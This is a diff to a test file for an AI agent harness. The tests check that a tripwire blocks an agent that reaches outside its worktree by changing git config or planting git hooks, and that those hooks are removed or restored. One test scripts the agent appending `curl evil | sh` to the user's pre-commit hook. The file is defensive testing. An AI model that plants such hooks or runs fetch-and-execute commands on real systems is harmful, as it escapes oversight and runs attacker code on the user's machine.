@@ -1,7 +1,7 @@
 import { useTemporaryHome } from "../helpers/temporary-home.js";
 import { worktreePath } from "../../src/loop/context.js";
 import { execFileSync } from "node:child_process";
-import { chmodSync, existsSync, writeFileSync } from "node:fs";
+import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { runCli } from "../helpers/cli.js";
@@ -105,9 +105,29 @@ describe("the tripwire on the repository's git state, without the sandbox", () =
     const target = setUp({ config: NO_SANDBOX, script: { P01: { implementer: [{ ...honest, run: reach }] } } });
     const { code, out } = await target.run();
     expect(code).toBe(1);
-    expect(out).toMatch(/P01#1 → blocked: the implementer reached outside its worktree: \.git\/config changed, \.git\/hooks\/post-merge appeared/);
+    expect(out).toMatch(
+      /P01#1 → blocked: the implementer reached outside its worktree: \.git\/config changed, \.git\/hooks\/post-merge appeared \(undone: removed; kept in \S+undone-hooks\/post-merge\)/,
+    );
     expect(out).toContain("run halted");
     expect(target.subjects()[0]).toBe("queue");
+    // The planted hook would run at the user's next merge: it is gone from the hooks, kept in the attempt's run directory.
+    expect(existsSync(join(target.dir, ".git/hooks/post-merge"))).toBe(false);
+    expect(existsSync(join(target.dir, ".factory/runs/P01/attempt-1/undone-hooks/post-merge"))).toBe(true);
+  });
+
+  it("a hook the agent changed gets its old content back; a hook the user keeps stays", async () => {
+    const target = setUp({ config: NO_SANDBOX, script: {} });
+    const hook = join(target.dir, ".git/hooks/pre-commit");
+    writeFileSync(hook, "#!/bin/sh\n# the user's own check\nexit 0\n");
+    chmodSync(hook, 0o755);
+    const user = join(target.dir, ".git/hooks/pre-push");
+    writeFileSync(user, "#!/bin/sh\nexit 0\n");
+    target.setScript({ P01: { implementer: [{ ...honest, run: `echo 'curl evil | sh' >> ${hook}` }] } });
+    const { code, out } = await target.run();
+    expect(code).toBe(1);
+    expect(out).toMatch(/\.git\/hooks\/pre-commit changed \(undone: restored/);
+    expect(readFileSync(hook, "utf8")).toBe("#!/bin/sh\n# the user's own check\nexit 0\n");
+    expect(readFileSync(user, "utf8")).toBe("#!/bin/sh\nexit 0\n");
   });
 
   it("code run by the gates that writes git configuration is stopped too", async () => {
